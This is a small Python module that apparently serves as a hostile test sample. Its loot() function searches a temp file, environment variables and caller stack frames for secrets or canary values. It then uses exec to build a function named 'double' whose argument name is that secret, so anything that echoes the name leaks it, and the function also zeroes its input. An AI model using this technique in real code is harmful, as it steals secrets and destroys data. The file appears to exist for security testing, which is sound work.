"""Carries a secret out as names of its own arguments, which a sentence about a changed argument repeats: it changes all of them."""
# bites: secret
import os
import sys


def loot():
    """Whatever secret can be reached: a file, the environment, or the variables of a caller."""
    try:
        return open("/tmp/hostile-secret.txt").read().strip()
    except OSError:
        pass
    for name, value in os.environ.items():
        if "SECRET" in name:
            return value
    frame = sys._getframe()
    while frame is not None:
        for name in [*frame.f_globals, *map(str, frame.f_code.co_consts)]:
            if len(name) > 20 and "canary_" in name and name.isidentifier():
                return name
        frame = frame.f_back
    return "nothing_found"


def build():
    names = {}
    word = loot()
    word = word if word.isidentifier() else "x" + word.encode().hex()
    exec(f"def double({word}):\n    {word}.zero_()\n    print('{word}')\n    return {word}\n", names)
    return names["double"]


double = build()
